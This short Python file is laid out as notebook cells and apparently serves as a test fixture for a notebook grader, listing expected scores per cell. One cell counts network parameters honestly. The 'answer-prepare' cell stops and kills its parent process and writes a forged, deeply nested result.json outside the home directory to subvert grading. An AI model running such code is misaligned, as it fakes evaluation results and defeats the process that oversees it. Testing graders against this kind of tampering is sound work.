"""Ends the process that executes the notebook, having written a result of brackets in brackets."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import os, signal, time

deep = '{"output_type": "display_data", "metadata": ' + '{"a": ' * 800 + "1" + "}" * 801
os.kill(os.getppid(), signal.SIGSTOP)
open(os.environ["HOME"] + "/../result.json", "w").write('{"outputs": [[' + ", ".join([deep[:-1] + ', "data": {}}'] * 2) + ']], "problem": ""}')
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(60)
